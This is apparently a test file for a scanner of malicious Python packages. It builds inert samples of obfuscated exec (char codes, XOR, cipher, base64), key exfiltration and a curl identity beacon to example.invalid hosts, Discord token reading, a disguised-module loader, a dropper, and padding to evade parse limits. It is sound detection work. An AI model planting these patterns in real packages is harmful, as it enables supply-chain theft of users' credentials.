"""Behaviour rules added for quiet theft and character-level code building (inert samples:
hosts are example.invalid, payloads are print calls; nothing here is run)."""

from __future__ import annotations

from bastion.scanning import scan_bytes

from .helpers import PLAIN_SETUP, sdist


def scan(files: dict[str, str | bytes]):
    return scan_bytes(sdist(files), "demo-1.0.tar.gz")


def rules(result) -> dict[str, str]:
    out: dict[str, str] = {}
    for f in result.findings:
        out.setdefault(f.rule, str(f.severity))
    return out


def test_exec_of_code_rebuilt_from_char_codes_in_setup() -> None:
    codes = ",".join(str(ord(c)) for c in "print('hello from an inert test')\n")
    r = scan({"setup.py": f'exec("".join(map(chr, [{codes}])))\n' + PLAIN_SETUP})
    assert rules(r).get("exec-obfuscated-code") == "high"
    assert r.verdict == "malicious"


def test_exec_of_substitution_cipher_in_library() -> None:
    import string

    letters = string.ascii_letters
    table = dict(zip(letters, letters[::-1], strict=True))
    hidden = "".join(table.get(c, c) for c in "print('an inert message for the scanner test')")
    lib = (
        "import string\nL = string.ascii_letters\nR = L[::-1]\n"
        "def load():\n"
        f"    exec(''.join([R[L.index(c)] if c in R else c for c in {hidden!r}]))\n"
    )
    files = {"setup.py": PLAIN_SETUP, "demo/__init__.py": "", "demo/cache.py": lib}
    files.update({f"demo/m{i}.py": "X = 1\n" for i in range(8)})  # not a "small" package
    r = scan(files)
    assert rules(r).get("exec-obfuscated-code") == "high"


def test_private_key_parameter_posted_to_hardcoded_host() -> None:
    lib = (
        "import requests\n\n"
        "def balance(private_key):\n"
        "    data = [{'private_key': private_key}]\n"
        "    r = requests.post('https://wallet-api.example.invalid/balance', json=data)\n"
        "    return r.json()\n"
    )
    r = scan({"setup.py": PLAIN_SETUP, "demo/__init__.py": "", "demo/api.py": lib})
    assert rules(r).get("key-exfiltration") == "high"
    assert r.verdict == "malicious"


def test_private_key_used_locally_or_url_from_caller_is_not_theft() -> None:
    lib = (
        "import requests\n\n"
        "def send(private_key, node_url, tx):\n"
        "    signed = sign(tx, private_key)\n"
        "    return requests.post(node_url, json={'tx': signed})\n\n"
        "def login(password):\n"
        "    return requests.post('https://api.example.invalid/login', json={'p': password})\n\n"
        "def sign(tx, key):\n"
        "    return tx\n"
    )
    r = scan({"setup.py": PLAIN_SETUP, "demo/__init__.py": "", "demo/api.py": lib})
    assert "key-exfiltration" not in rules(r)
    assert r.verdict != "malicious"


def test_shell_beacon_with_user_and_host_names() -> None:
    mod = (
        "import subprocess\n\n"
        "def test_callback():\n"
        "    subprocess.run(['curl', '-s', 'https://collect.example.invalid/?u=$(whoami)"
        "&h=$(hostname)'])\n"
    )
    files = {"setup.py": PLAIN_SETUP, "demo/__init__.py": "", "demo/test_callback.py": mod}
    r = scan(files)
    assert rules(r).get("identity-beacon") == "high"
    assert r.verdict == "malicious"


def test_installer_naming_the_platform_is_not_a_beacon() -> None:
    mod = (
        "import subprocess\n\n"
        "def fetch():\n"
        "    subprocess.run('curl -sL https://dl.example.invalid/tool-$(uname -s).tgz | tar xz',"
        " shell=True)\n"
    )
    r = scan({"setup.py": PLAIN_SETUP, "demo/__init__.py": "", "demo/tool.py": mod})
    assert "identity-beacon" not in rules(r)


def test_module_loaded_from_a_file_disguised_as_data() -> None:
    lib = (
        "import os\nimport zipimport\n\n"
        "def get():\n"
        "    m = zipimport.zipimporter(f'{os.path.dirname(__file__)}/server.crt').load_module('x')\n"
        "    return m\n"
    )
    files = {
        "setup.py": PLAIN_SETUP,
        "demo/__init__.py": "",
        "demo/routes.py": lib,
        "demo/server.crt": "-----BEGIN CERTIFICATE-----\ninert\n",
    }
    files.update({f"demo/m{i}.py": "X = 1\n" for i in range(8)})
    r = scan(files)
    assert rules(r).get("disguised-module") == "high"
    assert r.verdict == "malicious"


def test_loading_a_zip_or_a_missing_file_is_not_disguised() -> None:
    lib = (
        "import zipimport\nfrom importlib.machinery import SourcelessFileLoader as L\n\n"
        "def get():\n"
        "    zipimport.zipimporter('plugins.zip').load_module('p')\n"
        "    return L('x', 'cache.pyc').load_module('x')\n"
    )
    files = {
        "setup.py": PLAIN_SETUP,
        "demo/__init__.py": "",
        "demo/routes.py": lib,
        "demo/plugins.zip": b"PK\x05\x06" + b"\x00" * 18,
    }
    r = scan(files)
    assert "disguised-module" not in rules(r)


def test_setup_touching_chat_tokens_is_theft_even_without_network() -> None:
    setup = PLAIN_SETUP + (
        "import os\n"
        "STORE = os.path.join(os.getenv('APPDATA', ''), 'discord/Local Storage/leveldb')\n"
        "names = os.listdir(STORE) if os.path.isdir(STORE) else []\n"
    )
    r = scan({"setup.py": setup, "demo/__init__.py": ""})
    assert rules(r).get("credential-theft") == "high"


def test_command_decoded_from_xor_bytes_runs_on_import() -> None:
    key = 0x5A
    hidden = bytes(b ^ key for b in b"echo inert")
    init = (
        "import subprocess\n\n"
        "def helper(path):\n"
        f"    blob = {hidden!r}\n"
        f"    cmd = bytes([b ^ {key} for b in blob]).decode()\n"
        "    subprocess.run(cmd + ' ' + path, shell=True)\n"
    )
    r = scan({"setup.py": PLAIN_SETUP, "demo/__init__.py": init})
    assert rules(r).get("decoded-command") == "high"


def test_library_download_from_base64_hidden_address_then_run() -> None:
    import base64

    url = base64.b64encode(b"https://files.example.invalid/tool.py").decode()
    lib = (
        "import base64, subprocess, urllib.request\n\n"
        "def task(target):\n"
        f"    url = base64.b64decode({url!r}).decode()\n"
        "    data = urllib.request.urlopen(url).read()\n"
        "    with open(target, 'wb') as f:\n"
        "        f.write(data)\n"
        "    subprocess.Popen(['open', target])\n"
    )
    files = {"setup.py": PLAIN_SETUP, "demo/__init__.py": "", "demo/core.py": lib}
    files.update({f"demo/m{i}.py": "X = 1\n" for i in range(8)})
    r = scan(files)
    assert rules(r).get("dropper") == "high"


def test_exec_of_text_xored_character_by_character_in_a_loop() -> None:
    key = "k3y"
    plain = "print('inert xor test')"
    hidden = "".join(chr(ord(c) ^ ord(key[i % 3])) for i, c in enumerate(plain))
    lib = (
        f"DATA = {hidden!r}\nKEY = {key!r}\n"
        "def setup_colors():\n"
        "    out = ''\n"
        "    for i, c in enumerate(DATA):\n"
        "        out += chr(ord(c) ^ ord(KEY[i % 3]))\n"
        "    eval(compile(out, '<string>', 'exec'))\n"
    )
    files = {"setup.py": PLAIN_SETUP, "demo/__init__.py": "", "demo/colored.py": lib}
    files.update({f"demo/m{i}.py": "X = 1\n" for i in range(8)})
    r = scan(files)
    assert rules(r).get("exec-obfuscated-code") == "high"


def test_setup_padded_past_the_parse_limit_is_still_searched() -> None:
    import base64

    from bastion.scanning.config import DEFAULT_CONFIG

    hidden = base64.b64encode(b"print('inert')").decode()
    pad = "#" + " " * (DEFAULT_CONFIG.max_python_bytes + 10) + "\n"
    setup = PLAIN_SETUP + pad + f"from base64 import b64decode\nexec(b64decode('{hidden}'))\n"
    r = scan({"setup.py": setup, "demo/__init__.py": ""})
    assert rules(r).get("exec-obfuscated-code") == "high"


def test_payload_past_the_read_limit_of_an_init_file_is_found() -> None:
    import base64

    from bastion.scanning.config import DEFAULT_CONFIG

    hidden = base64.b64encode(b"print('inert')").decode()
    pad = "#" + "x" * (DEFAULT_CONFIG.max_file_bytes + 10) + "\n"
    init = "import base64\n" + pad + f"exec(base64.b64decode('{hidden}'))\n"
    r = scan({"setup.py": PLAIN_SETUP, "demo/__init__.py": init})
    found = [f for f in r.findings if f.rule == "exec-obfuscated-code"]
    assert found and str(found[0].severity) == "high"
    assert found[0].line == 3


def test_setup_written_by_an_obfuscator_is_held() -> None:
    import random

    rng = random.Random(7)

    def name() -> str:
        return "".join(rng.choice("aA") for _ in range(50))

    lines = [f"{name()} = {i}" for i in range(30)]
    setup = "\n".join(lines) + "\n" + PLAIN_SETUP
    r = scan({"setup.py": setup, "demo/__init__.py": ""})
    assert rules(r).get("obfuscated-identifiers") == "high"


def test_long_camel_case_names_are_not_obfuscation() -> None:
    from bastion.scanning.rules.pyfacts import is_obfuscated_name

    assert not is_obfuscated_name("AbstractSingletonProxyFactoryBeanWithLongName")
    assert not is_obfuscated_name("test_a_very_long_descriptive_function_name_here")
    assert is_obfuscated_name("dYNKamGUZImpDfeRMMMoRCdYkPzpReXGZzJdaGHtrrNHEIatkp")
    assert is_obfuscated_name("lIllIIlllIlIllll")


def test_sdist_importing_a_prebuilt_extension_on_import() -> None:
    elf = b"\x7fELF" + b"\x00" * 60
    files = {
        "setup.py": PLAIN_SETUP,
        "demo/__init__.py": "from .core import _init\n_init()\n",
        "demo/core.cpython-310-x86_64-linux-gnu.so": elf,
    }
    r = scan(files)
    assert rules(r).get("prebuilt-extension-on-import") == "high"


def test_prebuilt_extension_next_to_its_source_is_not_held() -> None:
    elf = b"\x7fELF" + b"\x00" * 60
    files = {
        "setup.py": PLAIN_SETUP,
        "demo/__init__.py": "from .core import _init\n_init()\n",
        "demo/core.cpython-310-x86_64-linux-gnu.so": elf,
        "demo/core.pyx": "def _init(): pass\n",
    }
    r = scan(files)
    assert "prebuilt-extension-on-import" not in rules(r)


def test_shell_redirection_in_the_module_body_on_import() -> None:
    init = "import os\n\nVERSION = '1.0'\nos.system(\"echo inert > /tmp/demo-marker\")\n"
    r = scan({"setup.py": PLAIN_SETUP, "demo/__init__.py": init})
    assert rules(r).get("shell-on-import") == "high"


def test_shell_inside_a_function_or_plain_command_is_not_shell_on_import() -> None:
    init = (
        "import os, subprocess\n\n"
        "os.system('')  # enables ANSI colours on Windows consoles\n"
        "def info():\n"
        "    return subprocess.check_output('uname -a | cut -d\" \" -f1', shell=True)\n"
    )
    r = scan({"setup.py": PLAIN_SETUP, "demo/__init__.py": init})
    assert "shell-on-import" not in rules(r)
